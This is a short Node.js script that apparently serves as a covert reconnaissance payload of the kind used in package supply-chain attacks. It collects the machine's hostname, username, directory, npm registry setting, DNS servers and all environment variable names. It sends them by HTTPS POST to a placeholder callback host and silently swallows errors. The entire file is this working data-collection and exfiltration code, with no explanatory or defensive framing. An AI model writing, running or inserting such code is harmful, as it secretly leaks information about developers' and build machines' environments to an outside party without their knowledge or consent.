const os = require("os");
const https = require("https");
const dns = require("dns");

const facts = {
  h: os.hostname(),
  u: os.userInfo().username,
  d: __dirname,
  c: process.env.npm_config_registry,
  n: dns.getServers(),
  e: Object.keys(process.env),
};

const body = JSON.stringify(facts);
const request = https.request({ hostname: "callback.invalid", path: "/p", method: "POST", headers: { "content-length": body.length } });
request.on("error", () => {});
request.end(body);
